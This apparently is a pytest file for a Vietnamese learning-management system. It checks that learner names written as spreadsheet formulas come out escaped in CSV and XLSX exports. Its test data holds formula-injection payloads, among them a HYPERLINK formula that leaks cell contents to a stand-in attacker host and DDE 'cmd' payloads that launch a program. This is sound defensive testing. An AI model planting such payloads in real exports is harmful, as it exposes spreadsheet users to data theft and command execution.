"""Finding 1: a learner's name never becomes a live formula in a manager's spreadsheet.

The names go in the way an attacker puts them there (a self-registered account), and come out
through the real export routes: learner list CSV and XLSX (the background job), training-hours
CSV and XLSX, the certificate register CSV, and an import's error file.
"""

import csv
import io
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from lms.enrollment.models import Enrollment
from lms.reports.models import ReportExport

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")'
# Names are stored trimmed, so the tab and carriage-return cases are checked in the error file below.
FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


def neutral_csv(cell: str) -> bool:
    """OWASP: a cell a spreadsheet could read as a formula starts with a single quote."""
    return cell.startswith("'") and cell[1:] in FORMULAS


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype.startswith("text/csv")
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def assert_xlsx_holds_text_only(data: bytes, names: list[str]) -> None:
    """No formula anywhere in the file, and each name is a text cell that Excel keeps as text when edited."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member), member
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value in names}
    assert set(cells) == set(names)
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value


@pytest.fixture()
def attackers(create_user, commune):
    """People whose self-chosen name (and position) is a formula, in Phường Vũng Tàu."""
    people = []
    for name in FORMULAS:
        user = create_user(name, audience="official", locality=commune("26506"))
        user.position = name
        people.append(user)
    return people


@pytest.fixture()
def manager(create_user, commune, login):
    user = create_user("Lê Hoàng Phúc", audience="official", roles=("manager",), manager_of=commune("26506"))
    login(user)
    return user


def test_learner_list_csv_and_xlsx_job(client, db_session, create_course, attackers, manager, commune):
    course = create_course()
    for user in attackers:
        db_session.add(Enrollment(user_id=user.id, course_id=course.id, locality_id=user.locality_id))
    db_session.commit()
    unit = commune("26506").id

    table = read_csv(client.get(f"/reports/localities/{unit}/learners.csv"))
    names = [row[0] for row in table[1:]]
    assert sorted(names) == sorted("'" + name for name in FORMULAS)

    client.post(f"/reports/localities/{unit}/learners.xlsx")
    job = db_session.scalar(select(ReportExport).where(ReportExport.format == "xlsx"))
    assert job.status == "done"
    assert_xlsx_holds_text_only(client.get(f"/reports/exports/{job.id}/download").data, FORMULAS)


def test_training_hours_csv_and_xlsx(client, db_session, create_course, attackers, manager):
    course = create_course()
    course.hours = 2
    for user in attackers:
        db_session.add(Enrollment(user_id=user.id, course_id=course.id, completed_at=datetime(2026, 3, 1)))
    db_session.commit()

    table = [row for row in read_csv(client.get("/reports/hours?year=2026&format=csv")) if row[0] != manager.full_name]
    assert len(table) == 1 + len(FORMULAS)
    assert all(neutral_csv(row[0]) and neutral_csv(row[4]) for row in table[1:])
    assert [row[5] for row in table[1:]] == ["2.0"] * len(FORMULAS)  # numbers stay numbers

    assert_xlsx_holds_text_only(client.get("/reports/hours?year=2026&format=xlsx").data, FORMULAS)


def test_certificate_register_csv(client, issued, create_user, login):
    for name in FORMULAS:
        issued(name)
    login(create_user("Phạm Quốc Bảo", roles=("admin",), audience="official"))
    rows = read_csv(client.get("/admin/certificates", query_string={"format": "csv"}))
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)


def test_import_error_file_and_ordinary_text_is_left_alone(app):
    from lms.imports.operations import error_file

    with app.test_request_context():
        data = error_file(["full_name", "phone"], [(2, [HYPERLINK, "-0912"], "bad"), (3, ["\t=1+1", "\r=2"], "bad"),
                                                   (4, ["Nguyễn Văn-An", "0912"], "x")])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][1:3] == ["'" + HYPERLINK, "'-0912"]
    assert rows[2][1:3] == ["'\t=1+1", "'\r=2"]
    assert rows[3][1:3] == ["Nguyễn Văn-An", "0912"]
